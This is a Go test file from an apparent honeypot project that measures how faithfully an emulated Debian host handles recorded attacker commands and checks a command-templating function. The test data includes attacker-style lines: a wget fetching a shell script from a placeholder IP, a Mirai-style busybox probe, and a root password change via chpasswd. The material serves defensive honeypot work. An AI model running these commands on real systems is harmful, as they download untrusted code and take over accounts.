package fidelity

import (
	"bufio"
	"encoding/json"
	"flag"
	"os"
	"path/filepath"
	"testing"
	"time"

	"honeyguide/internal/deception/persona"
)

var update = flag.Bool("update", false, "write docs/reference/unsupported.md")

var moment = time.Date(2026, 5, 4, 10, 20, 30, 0, time.UTC)

// root is the repository, seen from here.
const root = "../../.."

// attackers reads the recorded lines next to the repository.
func attackers(t *testing.T) []string {
	t.Helper()
	var files []string
	for _, up := range []string{"..", "../.."} {
		files, _ = filepath.Glob(filepath.Join(root, up, "shared/corpus/attacker/*__*.jsonl"))
		if len(files) > 0 {
			break
		}
	}
	if len(files) == 0 {
		t.Skip("no recorded attacker lines next to the repository")
	}
	var lines []string
	for _, name := range files {
		f, err := os.Open(name)
		if err != nil {
			t.Fatal(err)
		}
		sc := bufio.NewScanner(f)
		sc.Buffer(nil, 1<<20)
		for sc.Scan() {
			var l struct{ C string }
			if json.Unmarshal(sc.Bytes(), &l) == nil {
				lines = append(lines, l.C)
			}
		}
		if err := sc.Err(); err != nil {
			t.Fatal(err)
		}
		_ = f.Close()
	}
	return lines
}

func host(t *testing.T, name string) *persona.Host {
	t.Helper()
	h, err := persona.New([]byte("a seed for measuring fidelity..."), name, persona.Options{Now: moment, Hostname: "srv01"})
	if err != nil {
		t.Fatal(err)
	}
	return h
}

// TestAttackers holds the share of attacker templates that run without a gap.
func TestAttackers(t *testing.T) {
	lines := attackers(t)
	for _, name := range []string{"debian-12", "debian-12-fresh"} {
		r := Measure(t.Context(), host(t, name), moment, lines)
		t.Logf("%s: %d lines, %d templates, %d without a gap: %.2f %%", name, r.Lines, r.Templates, r.Clean, 100*r.Share())
		for _, g := range r.Gaps {
			t.Logf("%s | %s", tame(g.Reason, 100), tame(g.Template, 80))
		}
		if r.Share() < 0.99 {
			t.Errorf("%s: %.2f %% of the templates, want 99 %%", name, 100*r.Share())
		}
		if *update && name == "debian-12" {
			if err := os.WriteFile(filepath.Join(root, "docs/reference/unsupported.md"), []byte(r.Markdown()), 0o644); err != nil {
				t.Fatal(err)
			}
		}
	}
}

// TestMeasureFindsGaps makes sure that the measure can fail.
func TestMeasureFindsGaps(t *testing.T) {
	h := host(t, "debian-12")
	r := Measure(t.Context(), h, moment, []string{"echo fine", "ss --no-such-option", "echo again 12", "echo again 13", "while :; do :; done", "no-such-program"})
	if r.Lines != 6 || r.Templates != 5 || r.Clean != 3 || len(r.Gaps) != 2 {
		t.Errorf("got %+v", r)
	}
}

func TestTemplate(t *testing.T) {
	for _, pair := range [][2]string{
		{"wget http://192.0.2.1/a1.sh", "wget http://198.51.100.77/a23.sh"},
		{"/bin/busybox ECCHI", "/bin/busybox TRQBQ"},
		{`echo "root:abc"|chpasswd`, `echo "root:x9 y"|chpasswd`},
	} {
		if a, b := Template(pair[0]), Template(pair[1]); a != b {
			t.Errorf("%q and %q differ: %q, %q", pair[0], pair[1], a, b)
		}
	}
	if Template("uname -a") == Template("uname -m") {
		t.Error("two commands became one template")
	}
}
